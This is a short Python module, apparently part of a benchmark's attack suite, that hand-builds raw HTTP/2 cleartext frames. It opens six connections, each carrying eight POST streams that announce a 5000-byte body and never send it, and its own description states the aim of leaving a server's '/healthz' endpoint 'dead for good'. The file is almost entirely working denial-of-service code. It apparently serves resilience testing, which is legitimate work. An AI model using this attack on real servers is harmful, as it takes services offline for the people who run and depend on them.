"""HTTP/2 without TLS: streams that announce a body and send none (RFC 9113)."""

from bench.attacks.attack import Attack, Target, hold

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
STREAMS = 8


def _literal(name: bytes, value: bytes) -> bytes:
    """A header that refers to no table (RFC 7541, 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _stream(number: int) -> bytes:
    headers = {
        b":method": b"POST",
        b":scheme": b"http",
        b":authority": b"x",
        b":path": b"/",
        b"content-length": b"5000",
    }
    block = b"".join(_literal(name, value) for name, value in headers.items())
    # A frame of type HEADERS with END_HEADERS and without END_STREAM.
    return len(block).to_bytes(3) + b"\x01\x04" + (2 * number + 1).to_bytes(4) + block


def run(target: Target, until: float) -> None:
    sent = PREFACE + SETTINGS + b"".join(_stream(number) for number in range(STREAMS))
    hold(target, until, sent=sent, connections=6)


ATTACK = Attack("6 connections of 8 half-sent HTTP/2 streams", "/healthz dead for good", run)
